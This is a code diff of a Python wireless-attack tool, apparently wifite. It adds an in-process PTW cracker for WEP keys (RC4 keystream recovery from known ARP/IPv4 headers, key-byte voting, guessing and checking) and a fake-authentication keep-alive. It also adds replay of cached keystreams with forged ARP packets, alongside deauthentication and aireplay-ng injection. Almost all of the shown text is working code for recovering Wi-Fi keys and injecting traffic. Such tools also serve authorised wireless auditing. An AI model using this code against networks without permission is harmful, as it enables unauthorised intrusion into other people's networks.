             valid_handshake = self.has_handshake_aircrack(target, capfile)
 
-        if tried: return valid_handshake
-        print(R + ' [!]' + O + ' Unable to Check for Handshake: All Handshake Options Are Disabled!')
-        self.RUN_CONFIG.exit_gracefully(1)
+        return valid_handshake
 
     def strip_handshake(self, capfile):
         """
-            Uses Tshark or Pyrit to strip all non-handshake packets from a .cap file
+            Strips all non-handshake packets from a .cap file. Keeps the EAPOL messages which
+            satisfied the handshake policy and one beacon or probe response of the target.
+            Done in-process; Pyrit or Tshark are only used if no handshake could be read.
             File in location 'capfile' is overwritten!
         """
         output_file = capfile
-        if program_exists('pyrit'):
+        if strip_capfile(capfile, self.target.bssid, self.RUN_CONFIG.WPA_HANDSHAKE_POLICY, capfile + '.temp'):
+            rename(capfile + '.temp', output_file)
+
+        elif program_exists('pyrit'):
             cmd = ['pyrit',
                    '-r', capfile,
                    '-o', capfile + '.temp',
@@ -2412,7 +4240,7 @@ class WPAAttack(Attack):
             rename(capfile + '.temp', output_file)
 
         else:
-            print(R + " [!]" + O + " unable to strip .cap file: neither pyrit nor tshark were found" + W)
+            print(R + " [!]" + O + " unable to strip .cap file: no handshake found, and neither pyrit nor tshark were found" + W)
 
 
 ##########################
@@ -2525,21 +4353,362 @@ def add_commas(n):
     return result
 
 
+########################
+# WEP KEY RECOVERY     #
+########################
+LLC_SNAP_HEADER = b'\xaa\xaa\x03\x00\x00\x00'
+ARP_HEADER = b'\x08\x06\x00\x01\x08\x00\x06\x04\x00'  # EtherType, then ARP over Ethernet/IPv4 up to the opcode
+IPV4_HEADER = b'\x08\x00\x45'  # EtherType, then version 4 with a 20-byte header
+
+
+def rc4_keystream(key, length):
+    """
+        Returns the first 'length' bytes of the RC4 keystream for 'key'.
+    """
+    S = list(range(256))
+    j = 0
+    for i in range(256):
+        j = (j + S[i] + key[i % len(key)]) & 0xff
+        S[i], S[j] = S[j], S[i]
+    i = j = 0
+    keystream = bytearray()
+    for _ in range(length):
+        i = (i + 1) & 0xff
+        j = (j + S[i]) & 0xff
+        S[i], S[j] = S[j], S[i]
+        keystream.append(S[(S[i] + S[j]) & 0xff])
+    return bytes(keystream)
+
+
+def parse_wep_sample(frame, bssid):
+    """
+        Recovers the start of the RC4 keystream of a WEP-encrypted data frame of 'bssid',
+        XORing the ciphertext with the bytes every ARP (16) or IPv4 (9) packet starts with.
+        ARP packets are told apart by their length, as aircrack-ng does, and their opcode
+        by the destination (so the last byte of their keystream may be wrong).
+        Returns (iv, keystream), or None if the frame is not a WEP data frame of 'bssid'.
+    """
+    if len(frame) < 24 or (frame[0] & 0x0c) != 0x08 or not frame[1] & 0x40:
+        return None  # Not a protected data frame
+    to_ds = frame[1] & 0x01
+    from_ds = frame[1] & 0x02
+    if to_ds and from_ds:
+        return None  # WDS
+    if to_ds:
+        ap, destination = frame[4:10], frame[16:22]
+    elif from_ds:
+        ap, destination = frame[10:16], frame[4:10]
+    else:
+        ap, destination = frame[16:22], frame[4:10]
+    if format_mac(ap) != bssid.lower():
+        return None
+
+    body = frame[dot11_header_length(frame):]
+    if len(body) < 4 + 9 + 4 or body[3] & 0x20:
+        return None  # Too short, or an extended IV (TKIP/CCMP)
+    plaintext_length = len(body) - 8  # Without IV, key index and ICV
+    if plaintext_length in (36, 54):  # ARP, without and with Ethernet padding
+        opcode = b'\x01' if destination == b'\xff' * 6 else b'\x02'  # Requests are broadcast
+        known = LLC_SNAP_HEADER + ARP_HEADER + opcode
+    else:
+        known = LLC_SNAP_HEADER + IPV4_HEADER
+    return (bytes(body[:3]), bytes(c ^ p for (c, p) in zip(body[4:], known)))
+
+
+class PTWCracker:
+    """
+        Recovers a WEP key in-process with the PTW attack (Tews, Weinmann and Pyshkin).
+        Each sample (IV and known keystream X) votes for the sums of the secret key bytes
+            sigma_i = S3inv[3 + i - X[2 + i]] - (j3 + S3[3] + ... + S3[3 + i])
+        where S3 and j3 are the RC4 state after the three key scheduling steps on the IV.
+        The best-voted sums are turned into keys and checked against captured keystreams,
+        a few hundred keys per call so the attack's loop keeps running.
+        Votes are counted with NumPy when it is installed, in pure Python otherwise.
+    """
+    KEY_LENGTHS = (5, 13)  # 40 and 104-bit keys
+    MIN_SAMPLES = 5000  # No key is guessed before this many IVs
+    RETRY_SAMPLES = 1000  # New IVs needed before guessing again
+    MAX_GUESSES = 4096  # Keys tried per key length and guess
+    CHECKS_PER_CALL = 256  # Keys checked per call of crack()
+    CHECK_BYTES = 15  # Keystream bytes a key is checked on: the 16th hides the guessed ARP opcode
+
+    def __init__(self):
+        self.votes = [[0] * 256 for _ in range(13)] if numpy is None else numpy.zeros((13, 256), numpy.int64)
+        self.ivs = set()  # IVs seen; each one votes once
+        self.pending = []  # (iv, keystream) samples which did not vote yet
+        self.checks = []  # Full-length (ARP) samples for checking guessed keys
+        self.samples = 0  # Samples which voted
+        self.tried_at = 0  # self.samples at the last guess
+        self.search = None  # Keys of the guess in progress, not checked yet
+
+    def add(self, iv, keystream):
+        if iv in self.ivs:
+            return
+        self.ivs.add(iv)
+        self.pending.append((iv, keystream))
+        if len(keystream) == 16 and len(self.checks) < 8:
+            self.checks.append((iv, keystream))
+
+    def count_votes(self):
+        """
+            Adds the votes of the pending samples.
+        """
+        if numpy is None:
+            for (iv, keystream) in self.pending:
+                S = list(range(256))
+                j = 0
+                for i in range(3):
+                    j = (j + S[i] + iv[i]) & 0xff
+                    S[i], S[j] = S[j], S[i]
+                inverse = [0] * 256
+                for (position, value) in enumerate(S):
+                    inverse[value] = position
+                total = j
+                for i in range(min(13, len(keystream) - 2)):
+                    total = (total + S[3 + i]) & 0xff
+                    self.votes[i][(inverse[(3 + i - keystream[2 + i]) & 0xff] - total) & 0xff] += 1
+        else:
+            for length in set(len(keystream) for (_, keystream) in self.pending):
+                batch = [sample for sample in self.pending if len(sample[1]) == length]
+                self.count_votes_numpy(batch, length)
+        self.samples += len(self.pending)
+        self.pending = []
+
+    def count_votes_numpy(self, batch, length):
+        n = len(batch)
+        rows = numpy.arange(n)
+        iv = numpy.frombuffer(b''.join(iv for (iv, _) in batch), numpy.uint8).reshape(n, 3).astype(numpy.int64)
+        X = numpy.frombuffer(b''.join(ks for (_, ks) in batch), numpy.uint8).reshape(n, length).astype(numpy.int64)
+        S = numpy.tile(numpy.arange(256, dtype=numpy.int64), (n, 1))
+        j = numpy.zeros(n, numpy.int64)
+        for i in range(3):
+            j = (j + S[:, i] + iv[:, i]) & 0xff
+            swapped = S[:, i].copy()
+            S[:, i] = S[rows, j]
+            S[rows, j] = swapped
+        inverse = numpy.empty_like(S)
+        inverse[rows[:, None], S] = numpy.arange(256)
+        key_bytes = min(13, length - 2)
+        totals = (j[:, None] + numpy.cumsum(S[:, 3:3 + key_bytes], axis=1)) & 0xff
+        for i in range(key_bytes):
+            sigma = (inverse[rows, (3 + i - X[:, 2 + i]) & 0xff] - totals[:, i]) & 0xff
+            self.votes[i] += numpy.bincount(sigma, minlength=256)
+
+    def guesses(self, length):
+        """
+            Yields up to MAX_GUESSES keys of 'length' bytes, most likely first: the sums are
+            picked in order of how many votes they are behind the best-voted sum of their byte.
+        """
+        ranked = []  # Per key byte: [(votes behind the best, sum)], best first
+        for i in range(length):
+            votes = [int(v) for v in self.votes[i]]
+            best = max(votes)
+            ranked.append(sorted((best - votes[value], value) for value in range(256)))
+        start = (0,) * length
+        heap = [(0, start)]
+        queued = set([start])
+        for _ in range(self.MAX_GUESSES):
+            if len(heap) == 0:
+                return
+            (behind, ranks) = heapq.heappop(heap)
+            sigma = [ranked[i][rank][1] for (i, rank) in enumerate(ranks)]
+            yield bytes([sigma[0]] + [(sigma[i] - sigma[i - 1]) & 0xff for i in range(1, length)])
+            for i in range(length):
+                if ranks[i] == 255:
+                    continue
+                next_ranks = ranks[:i] + (ranks[i] + 1,) + ranks[i + 1:]
+                if next_ranks not in queued:
+                    queued.add(next_ranks)
+                    heapq.heappush(heap, (behind - ranked[i][ranks[i]][0] + ranked[i][ranks[i] + 1][0], next_ranks))
+
+    def verify(self, key):
+        """
+            Returns True if 'key' produces the keystream of most check samples (one may be an
+            IPv4 packet of ARP length, or an ARP reply sent to the broadcast address).
+        """
+        matches = sum(1 for (iv, keystream) in self.checks
+                      if rc4_keystream(iv + key, self.CHECK_BYTES) == keystream[:self.CHECK_BYTES])
+        return matches * 2 > len(self.checks)
+
+    def crack(self):
+        """
+            Counts pending votes and goes on checking the keys of the current guess; once it
+            is done and enough new IVs arrived, guesses again.
+            Returns the key (bytes) if it decrypts the captured samples, None otherwise.
+        """
+        self.count_votes()
+        if self.search is None:
+            if self.samples < self.MIN_SAMPLES or self.samples - self.tried_at < self.RETRY_SAMPLES \
+                    or len(self.checks) == 0:
+                return None
+            self.tried_at = self.samples
+            self.search = (key for length in self.KEY_LENGTHS for key in self.guesses(length))
+        for _ in range(self.CHECKS_PER_CALL):
+            key = next(self.search, None)
+            if key is None:
+                self.search = None  # Every key of the guess was checked
+                return None
+            if self.verify(key):
+                self.search = None
+                return key
+        return None
+
+
 #################
 # WEP FUNCTIONS #
 #################
+class IVRateMonitor:
+    """
+        Follows the number of IVs captured during a WEP attack: an exponentially weighted
+        moving average of the IVs per second, and since when the count stopped growing.
+    """
+    SMOOTHING = 0.3  # Weight of the latest measurement in the average
+
+    def __init__(self):
+        self.ivs = 0
+        self.rate = 0.0  # Average IVs per second
+        self.measured_at = time.time()
+        self.progress_at = time.time()  # When the count last grew (or the attack method started)
+
+    def update(self, ivs):
+        now = time.time()
+        elapsed = now - self.measured_at
+        if elapsed <= 0:
+            return
+        self.rate = self.SMOOTHING * max(ivs - self.ivs, 0) / elapsed + (1 - self.SMOOTHING) * self.rate
+        if ivs > self.ivs:
+            self.progress_at = now
+        self.ivs = ivs
+        self.measured_at = now
+
+    def restart(self):
+        """
+            Called when a new attack method starts: it gets a full stall window.
+        """
+        self.progress_at = time.time()
+
+    def stalled(self, timeout):
+        return timeout > 0 and time.time() - self.progress_at > timeout
+
+    def time_to(self, ivs):
+        """
+            Returns the seconds needed to reach 'ivs' at the current rate (None if not growing).
+        """
+        if self.ivs >= ivs:
+            return 0
+        if self.rate <= 0:
+            return None
+        return (ivs - self.ivs) / self.rate
+
+    def should_crack(self, config):
+        """
+            Cracking starts at WEP_CRACK_AT_IVS, or from WEP_CRACK_MIN_IVS on if, at the
+            current rate, WEP_CRACK_AT_IVS is more than WEP_CRACK_WAIT seconds away.
+        """
+        if self.ivs >= config.WEP_CRACK_AT_IVS:
+            return True
+        if self.ivs < config.WEP_CRACK_MIN_IVS:
+            return False
+        eta = self.time_to(config.WEP_CRACK_AT_IVS)
+        return eta is None or eta > config.WEP_CRACK_WAIT
+
+
+class FakeAuthKeeper:
+    """
+        Keeps a fake authentication with a WEP access point alive (aireplay-ng re-associating
+        every 'interval' seconds and sending keep-alive packets in between), and follows from
+        its output whether the association currently holds.
+    """
+    KEEPALIVE = 10  # Seconds between keep-alive packets
+
+    def __init__(self, iface, target, interval):
+        self.iface = iface
+        self.target = target
+        self.interval = interval
+        self.proc = None
+        self.associated = False
+        self.output = b''  # Unfinished line of aireplay-ng output
+
+    def start(self):
+        """
+            Called right after a successful fake authentication.
+        """
+        self.stop()
+        cmd = ['aireplay-ng',
+               '--ignore-negative-one',
+               '-1', str(self.interval),  # Re-associate every 'interval' seconds
+               '-q', str(self.KEEPALIVE),  # Keep-alive packets in between
+               '-a', self.target.bssid]
+        if self.target.ssid != '':
+            cmd.append('-e')
+            cmd.append(self.target.ssid)
+        cmd.append(self.iface)
+        self.proc = Popen(cmd, stdout=PIPE, stderr=DN)
+        os.set_blocking(self.proc.stdout.fileno(), False)
+        self.associated = True
+
+    def update(self):
+        if self.proc is None:
+            return
+        while True:
+            try:
+                chunk = os.read(self.proc.stdout.fileno(), 4096)
+            except BlockingIOError:
+                break
+            if not chunk:
+                break
+            lines = re.split(b'[\r\n]', self.output + chunk)
+            self.output = lines.pop()
+            for line in lines:
+                line = line.lower()
+                if b'association successful' in line:
+                    self.associated = True
+                elif b'deauthentication' in line or b'disassociation' in line or b'denied' in line or \
+                        b'unsuccessful' in line:
+                    # aireplay-ng authenticates again by itself
+                    self.associated = False
+        if self.proc.poll() is not None:
+            self.proc = None
+            self.associated = False
+
+    def holds(self, timeout):
+        """
+            Returns True if the fake authentication holds; if it was lost, gives aireplay-ng
+            up to 'timeout' seconds to re-associate.
+        """
+        self.update()
+        started = time.time()
+        while self.proc is not None and not self.associated and time.time() - started < timeout:
+            time.sleep(0.1)
+            self.update()
+        return self.associated
+
+    def stop(self):
+        if self.proc is not None:
+            send_interrupt(self.proc)
+            self.proc = None
+        self.associated = False
+
+
 class WEPAttack(Attack):
+    FAKEAUTH_WAIT = 5  # Seconds the fake authentication keep-alive gets to re-associate before faking it again
+    CACHE_WAIT = 20  # Seconds a cached keystream's packet gets to produce IVs before it is dropped as stale
+
     def __init__(self, iface, target, clients, config):
         self.iface = iface
         self.target = target
         self.clients = clients
         self.RUN_CONFIG = config
+        self.fake_auth = FakeAuthKeeper(iface, target, config.WEP_FAKEAUTH_INTERVAL)
 
     def RunAttack(self):
         '''
             Abstract method for dispatching the WEP crack
         '''
-        self.attack_wep()
+        try:
+            return self.attack_wep()
+        finally:
+            self.fake_auth.stop()
 
     def EndAttack(self):
         '''
@@ -2570,25 +4739,36 @@ class WEPAttack(Attack):
         print(' %s Preparing Attack "%s" (%s)' % \
               (GR + sec_to_hms(self.RUN_CONFIG.WEP_TIMEOUT) + W, G + self.target.ssid + W, G + self.target.bssid + W))
 
-        file_prefix = os.path.join(self.RUN_CONFIG.temp, 'wep')
-        wepkey_file = os.path.join(self.RUN_CONFIG.temp, 'wepkey.txt')
+        self.artifacts = ArtifactTracker(self.RUN_CONFIG.temp)
+        file_prefix = self.artifacts.airodump(os.path.join(self.RUN_CONFIG.temp, 'wep'))
+        wepkey_file = self.artifacts.add(os.path.join(self.RUN_CONFIG.temp, 'wepkey.txt'))
+        arp_file = self.artifacts.add(os.path.join(self.RUN_CONFIG.temp, 'arp.cap'))
+        capture_suffix = '-01.ivs' if self.RUN_CONFIG.WEP_IVS_ONLY else '-01.cap'
         csv_file = file_prefix + '-01.csv'
-        cap_file = file_prefix + '-01.cap'
+        cap_file = file_prefix + capture_suffix
+        segments = []  # Captures of earlier airodump-ng runs (one per continued attack), cracked with cap_file
 
-        remove_airodump_files(file_prefix)
-        remove_file(wepkey_file)
+        self.artifacts.clean()
 
         # Start airodump process to capture packets
         cmd_airodump = ['airodump-ng',
                         '-w', file_prefix,  # Output file name (wep-01.cap, wep-01.csv)
                         '-c', self.target.channel,  # Wireless channel
                         '--write-interval', '1',
-                        '--bssid', self.target.bssid,
-                        self.iface]
+                        '--bssid', self.target.bssid]
+        if self.RUN_CONFIG.WEP_IVS_ONLY:
+            # aircrack-ng only needs the IVs: 24 bytes per unique IV instead of every packet
+            cmd_airodump.append('--output-format')
+            cmd_airodump.append('ivs,csv')
+        cmd_airodump.append(self.iface)
         proc_airodump = Popen(cmd_airodump, stdout=DN, stderr=DN)
         proc_aireplay = None
         proc_aircrack = None
 
+        # The PTW engine reads the capture as airodump-ng writes it; an .ivs file has no keystreams
+        ptw = PTWCracker() if self.RUN_CONFIG.WEP_PTW and not self.RUN_CONFIG.WEP_IVS_ONLY else None
+        ptw_reader = PcapReader(cap_file)
+
         successful = False  # Flag for when attack is successful
         started_cracking = False  # Flag for when we have started aircrack-ng
         client_mac = ''  # The client mac we will send packets to/from
@@ -2596,6 +4776,7 @@ class WEPAttack(Attack):
         total_ivs = 0
         ivs = 0
         last_ivs = 0
+        iv_rate = IVRateMonitor()
         for attack_num in range(0, 6):
 
             # Skip disabled attacks
@@ -2616,9 +4797,14 @@ class WEPAttack(Attack):
 
             try:
 
-                if self.wep_fake_auth(self.iface, self.target, sec_to_hms(self.RUN_CONFIG.WEP_TIMEOUT)):
+                if self.fake_auth.holds(self.FAKEAUTH_WAIT):
+                    # Still associated since an earlier attack method
+                    client_mac = self.RUN_CONFIG.THIS_MAC
+                elif self.wep_fake_auth(self.iface, self.target, sec_to_hms(self.RUN_CONFIG.WEP_TIMEOUT)):
                     # Successful fake auth
                     client_mac = self.RUN_CONFIG.THIS_MAC
+                    if self.RUN_CONFIG.WEP_FAKEAUTH_INTERVAL > 0:
+                        self.fake_auth.start()
                 elif not self.RUN_CONFIG.WEP_IGNORE_FAKEAUTH:
                     send_interrupt(proc_aireplay)
                     send_interrupt(proc_airodump)
@@ -2626,13 +4812,19 @@ class WEPAttack(Attack):
                     print(R + ' [!]' + O + ' To skip this speed bump, select "ignore-fake-auth" at command-line')
                     return False
 
-                remove_file(os.path.join(self.RUN_CONFIG.temp, 'arp.cap'))
-                # Generate the aireplay-ng arguments based on attack_num and other params
-                cmd = self.get_aireplay_command(self.iface, attack_num, self.target, self.clients, client_mac)
+                remove_file(arp_file)
+                # Chop-chop and fragmentation recover a keystream to forge a packet with; if one was
+                # recovered before (in any session), replay a packet forged with it straight away
+                cached = attack_num in (1, 2) and self.wep_cached_arp(client_mac, arp_file)
+                if cached:
+                    cmd = self.get_arp_replay_command(arp_file)
+                else:
+                    # Generate the aireplay-ng arguments based on attack_num and other params
+                    cmd = self.get_aireplay_command(self.iface, attack_num, self.target, self.clients, client_mac)
                 if cmd == '': continue
                 if proc_aireplay != None:
                     send_interrupt(proc_aireplay)
-                proc_aireplay = Popen(cmd, stdout=PIPE, stderr=PIPE)
+                proc_aireplay = self.artifacts.popen(cmd, stdout=PIPE, stderr=PIPE)
 
                 print('\r %s attacking "%s" via' % (
                 GR + sec_to_hms(self.RUN_CONFIG.WEP_TIMEOUT) + W, G + self.target.ssid + W), end=' ')
@@ -2648,21 +4840,24 @@ class WEPAttack(Attack):
                     print(G + 'p0841', end=' ')
                 elif attack_num == 5:
                     print(G + 'hirte', end=' ')
-                print('attack' + W)
+                print('attack' + W, end=' ')
+                print('(replaying cached keystream)' if cached else '')
 
                 print(' %s Captured %s%d%s ivs @ %s iv/sec' % (
                 GR + sec_to_hms(self.RUN_CONFIG.WEP_TIMEOUT) + W, G, total_ivs, W, G + '0' + W), end=' ')
                 stdout.flush()
 
                 time.sleep(1)
-                if attack_num == 1:
+                if attack_num == 1 and not cached:
                     # Send a deauth packet to broadcast and all clients *just because!*
                     self.wep_send_deauths(self.iface, self.target, self.clients)
                 last_deauth = time.time()
 
-                replaying = False
+                replaying = cached
+                stalled = False
                 time_started = time.time()
-                while time.time() - time_started < self.RUN_CONFIG.WEP_TIMEOUT:
+                iv_rate.restart()
+                while self.RUN_CONFIG.WEP_TIMEOUT == -1 or time.time() - time_started < self.RUN_CONFIG.WEP_TIMEOUT:
                     # time.sleep(5)
                     if self.RUN_CONFIG.WEP_TIMEOUT == -1:
                         current_hms = "[Endless]"
@@ -2678,9 +4873,10 @@ class WEPAttack(Attack):
                     csv = self.RUN_CONFIG.RUN_ENGINE.parse_csv(csv_file)[0]
                     if len(csv) > 0:
                         ivs = int(csv[0].data)
+                        iv_rate.update(total_ivs + ivs)
                         print("\r                                                   ", end=' ')
                         print("\r %s captured %s%d%s ivs @ %s%d%s iv/sec" % \
-                              (GR + current_hms + W, G, total_ivs + ivs, W, G, (ivs - last_ivs), W), end=' ')
+                              (GR + current_hms + W, G, total_ivs + ivs, W, G, round(iv_rate.rate), W), end=' ')
 
                         if ivs - last_ivs == 0 and time.time() - last_deauth > 30:
                             print("\r %s Feauthing to generate packets..." % (GR + current_hms + W), end=' ')
@@ -2690,22 +4886,23 @@ class WEPAttack(Attack):
 
                         last_ivs = ivs
                         stdout.flush()
-                        if total_ivs + ivs >= self.RUN_CONFIG.WEP_CRACK_AT_IVS and not started_cracking:
+                        if not started_cracking and iv_rate.should_crack(self.RUN_CONFIG):
                             # Start cracking
                             cmd = ['aircrack-ng',
                                    '-a', '1',
                                    '-l', wepkey_file]
-                            #temp + 'wep-01.cap']
-                            # Append all .cap files in temp directory (in case we are resuming)
-                            for f in os.listdir(self.RUN_CONFIG.temp):
-                                if f.startswith('wep-') and f.endswith('.cap'):
-                                    cmd.append(os.path.join(self.RUN_CONFIG.temp, f))
-
-                            print("\r %s Started %s (%sOver %d ivs%s)" % (
-                            GR + current_hms + W, G + 'Cracking' + W, G, self.RUN_CONFIG.WEP_CRACK_AT_IVS, W))
+                            # Every segment captured so far (in case we are resuming)
+                            cmd.extend(segments)
+                            cmd.append(cap_file)
+
+                            print("\r %s Started %s (%s%d ivs @ %d iv/sec%s)" % (
+                            GR + current_hms + W, G + 'Cracking' + W, G, total_ivs + ivs, round(iv_rate.rate), W))
                             proc_aircrack = Popen(cmd, stdout=DN, stderr=DN)
                             started_cracking = True
 
+                    if ptw is not None:
+                        self.wep_ptw_feed(ptw, ptw_reader, wepkey_file)
+
                     # Check if key has been cracked yet.
                     if os.path.exists(wepkey_file):
                         # Cracked!
@@ -2732,10 +4929,36 @@ class WEPAttack(Attack):
                         send_interrupt(proc_aircrack)
                         # Remove files generated by airodump/aireplay/packetforce
                         time.sleep(0.5)
-                        remove_airodump_files(file_prefix)
-                        remove_file(wepkey_file)
+                        self.artifacts.clean()
                         return True
 
+                    # A cached packet which brings no IVs is stale (or was forged badly): drop the cache
+                    # and recover a fresh keystream the usual way
+                    if cached and iv_rate.stalled(self.CACHE_WAIT):
+                        print_red('\r %s Cached Keystream Produced No IVs: %sRecovering A New One%s' % (
+                        R + current_hms, O, W))
+                        self.wep_drop_cache()
+                        send_interrupt(proc_aireplay)
+                        cmd = self.get_aireplay_command(self.iface, attack_num, self.target, self.clients, client_mac)
+                        if cmd == '': break
+                        proc_aireplay = self.artifacts.popen(cmd, stdout=PIPE, stderr=PIPE)
+                        if attack_num == 1:
+                            self.wep_send_deauths(self.iface, self.target, self.clients)
+                        last_deauth = time.time()
+                        cached = False
+                        replaying = False
+                        iv_rate.restart()
+                        continue
+
+                    # Move on from a method which stopped producing IVs (chop-chop and fragmentation
+                    # only produce IVs once they replay their forged packet)
+                    if (replaying or (attack_num != 1 and attack_num != 2)) and \
+                            iv_rate.stalled(self.RUN_CONFIG.WEP_STALL_TIMEOUT):
+                        print_red('\r %s Attack Stalled: %sNo New IVs For %d Seconds%s' % (
+                        R + current_hms, O, self.RUN_CONFIG.WEP_STALL_TIMEOUT, W))
+                        stalled = True
+                        break
+
                     # Check if aireplay is still executing
                     if proc_aireplay.poll() == None:
                         if replaying:
@@ -2753,60 +4976,46 @@ class WEPAttack(Attack):
 
                     # Check for a .XOR file (we expect one when doing chopchop/fragmentation
                     xor_file = ''
-                    for filename in sorted(os.listdir(self.RUN_CONFIG.temp)):
-                        if filename.lower().endswith('.xor'):
-                            xor_file = os.path.join(self.RUN_CONFIG.temp, filename)
+                    for filename in self.artifacts.outputs('.xor'):
+                        xor_file = filename
                     if xor_file == '':
                         print_red('\r %s Attack Failed: %sUnable To Generate Keystream        %s' % (R + current_hms, O, W))
                         break
 
-                    remove_file(os.path.join(self.RUN_CONFIG.temp, 'arp.cap'))
-                    cmd = ['packetforge-ng',
-                           '-0',
-                           '-a', self.target.bssid,
-                           '-h', client_mac,
-                           '-k', '192.168.1.2',
-                           '-l', '192.168.1.100',
-                           '-y', xor_file,
-                           '-w', os.path.join(self.RUN_CONFIG.temp, 'arp.cap'),
-                           self.iface]
-                    proc_pforge = Popen(cmd, stdout=PIPE, stderr=DN)
-                    proc_pforge.wait()
-                    forged_packet = proc_pforge.communicate()[0]
+                    # Keep the keystream: later attacks on this access point skip straight to replaying
+                    self.wep_cache_file(xor_file, self.wep_cache_filename('.xor'))
+                    forged = self.wep_forge_arp(xor_file, client_mac, arp_file)
                     remove_file(xor_file)
-                    if forged_packet == None: result = ''
-                    forged_packet = forged_packet.strip()
-                    if not forged_packet.find('Wrote Packet'):
-                        print_red("\r %s Attack Failed: Unable To Forget ARP Packet               %s" % (
+                    if not forged:
+                        print_red("\r %s Attack Failed: Unable To Forge ARP Packet               %s" % (
                         R + current_hms + O, W))
                         break
 
                     # We were able to forge a packet, so let's replay it via aireplay-ng
-                    cmd = ['aireplay-ng',
-                           '--ignore-negative-one',
-                           '--arpreplay',
-                           '-b', self.target.bssid,
-                           '-r', os.path.join(self.RUN_CONFIG.temp, 'arp.cap'),  # Used the forged ARP packet
-                           '-F',  # Select the first packet
-                           self.iface]
-                    proc_aireplay = Popen(cmd, stdout=DN, stderr=DN)
+                    proc_aireplay = self.artifacts.popen(self.get_arp_replay_command(arp_file), stdout=DN, stderr=DN)
 
                     print('\r %s forged %s! %s...         ' % (
                     GR + current_hms + W, G + 'arp packet' + W, G + 'replaying' + W))
                     replaying = True
+                    iv_rate.restart()
 
                 # After the attacks, if we are already cracking, wait for the key to be found!
-                while started_cracking:  # ivs > WEP_CRACK_AT_IVS:
+                # (unless this method stalled and another one is left: it may produce IVs again)
+                while started_cracking and not (stalled and remaining_attacks > 0):  # ivs > WEP_CRACK_AT_IVS:
                     time.sleep(1)
                     # Check number of IVs captured
                     csv = self.RUN_CONFIG.RUN_ENGINE.parse_csv(csv_file)[0]
                     if len(csv) > 0:
                         ivs = int(csv[0].data)
+                        iv_rate.update(total_ivs + ivs)
                         print(GR + " [Endless]" + W + " Captured %s%d%s ivs, iv/sec: %s%d%s  \r" % \
                                                       (G, total_ivs + ivs, W, G, (ivs - last_ivs), W), end=' ')
                         last_ivs = ivs
                         stdout.flush()
 
+                    if ptw is not None:
+                        self.wep_ptw_feed(ptw, ptw_reader, wepkey_file)
+
                     # Check if key has been cracked yet.
                     if os.path.exists(wepkey_file):
                         # Cracked!
@@ -2828,8 +5037,7 @@ class WEPAttack(Attack):
                         send_interrupt(proc_aireplay)
                         send_interrupt(proc_aircrack)
                         # Remove files generated by airodump/aireplay/packetforce
-                        remove_airodump_files(file_prefix)
-                        remove_file(wepkey_file)
+                        self.artifacts.clean()
                         return True
 
             # Keyboard interrupt during attack
@@ -2873,22 +5081,20 @@ class WEPAttack(Attack):
                 if response == 'e' or response == 's':
                     # Exit or skip target (either way, stop this attack)
                     if self.RUN_CONFIG.WEP_SAVE:
-                        # Save packets
-                        save_as = re.sub(r'[^a-zA-Z0-9]', '', self.target.ssid) + '_' + self.target.bssid.replace(':',
-                                                                                                                  '-') + '.cap' + W
-                        try:
-                            rename(cap_file, save_as)
-                        except OSError:
-                            print_red(R + ' [!]' + O + ' Unable to save capture file!' + W)
-                        else:
-                            print_green(GR + ' [+]' + W + ' Packet capture ' + G + 'saved' + W + ' to ' + G + save_as + W)
+                        # Save packets, one file per segment
+                        for (index, segment) in enumerate(segments + [cap_file]):
+                            save_as = re.sub(r'[^a-zA-Z0-9]', '', self.target.ssid) + '_' + \
+                                      self.target.bssid.replace(':', '-') + ('_%d' % index if index > 0 else '') + \
+                                      os.path.splitext(segment)[1]
+                            try:
+                                rename(segment, save_as)
+                            except OSError:
+                                print_red(R + ' [!]' + O + ' Unable to save capture file!' + W)
+                            else:
+                                print_green(GR + ' [+]' + W + ' Packet capture ' + G + 'saved' + W + ' to ' + G + save_as + W)
 
                     # Remove files generated by airodump/aireplay/packetforce
-                    for filename in os.listdir('.'):
-                        if filename.startswith('replay_arp-') and filename.endswith('.cap'):
-                            remove_file(filename)
-                    remove_airodump_files(file_prefix)
-                    remove_file(wepkey_file)
+                    self.artifacts.clean()
                     print('')
                     if response == 'e':
                         self.RUN_CONFIG.exit_gracefully(0)
@@ -2896,16 +5102,18 @@ class WEPAttack(Attack):
 
                 elif response == 'c':
                     # Continue attacks
-                    # Need to backup temp/wep-01.cap and remove airodump files
-                    i = 2
-                    while os.path.exists(os.path.join(self.RUN_CONFIG.temp, 'wep-' + str(i) + '.cap')):
-                        i += 1
-                    new_cap_file = os.path.join(self.RUN_CONFIG.temp, 'wep-' + str(i) + '.cap')
-                    copy(cap_file, new_cap_file)
+                    # Keep the capture as a segment; the new airodump-ng writes the next one (wep2-01.cap, ...)
+                    segments.append(cap_file)
+                    file_prefix = self.artifacts.airodump(
+                        os.path.join(self.RUN_CONFIG.temp, 'wep%d' % (len(segments) + 1)))
+                    csv_file = file_prefix + '-01.csv'
+                    cap_file = file_prefix + capture_suffix
                     remove_airodump_files(file_prefix)
 
                     # Need to restart airodump-ng, as it's been interrupted/killed
+                    cmd_airodump[cmd_airodump.index('-w') + 1] = file_prefix
                     proc_airodump = Popen(cmd_airodump, stdout=DN, stderr=DN)
+                    ptw_reader = PcapReader(cap_file)  # The PTW engine keeps the votes of earlier segments
 
                     # Say we haven't started cracking yet, so we re-start if needed.
                     started_cracking = False
@@ -2915,8 +5123,6 @@ class WEPAttack(Attack):
                     ivs = 0
                     last_ivs = 0
 
-                    # Also need to remember to crack "temp/*.cap" instead of just wep-01.cap
-                    pass
 
         if successful:
             print_green(GR + '\n [0:00:00]' + W + ' Attack Complete: ' + G + 'Success!' + W)
@@ -2928,11 +5134,94 @@ class WEPAttack(Attack):
             send_interrupt(proc_aireplay)
 
         # Remove files generated by airodump/aireplay/packetforce
-        for filename in os.listdir('.'):
-            if filename.startswith('replay_arp-') and filename.endswith('.cap'):
-                remove_file(filename)
-        remove_airodump_files(file_prefix)
-        remove_file(wepkey_file)
+        self.artifacts.clean()
+        return successful
+
+    def wep_cache_filename(self, suffix):
+        """
+            Returns the path of a cached keystream ('.xor') or forged packet of the target.
+        """
+        return self.RUN_CONFIG.WEP_KEYSTREAM_DIR + os.sep + self.target.bssid.replace(':', '-') + suffix
+
+    def wep_cache_file(self, filename, cached):
+        try:
+            os.makedirs(self.RUN_CONFIG.WEP_KEYSTREAM_DIR, exist_ok=True)
+            copy_file(filename, cached)
+        except (IOError, OSError):
+            print_red(R + ' [!]' + O + ' Unable to cache %s' % (cached) + W)
+
+    def wep_forge_arp(self, xor_file, client_mac, arp_file):
+        """
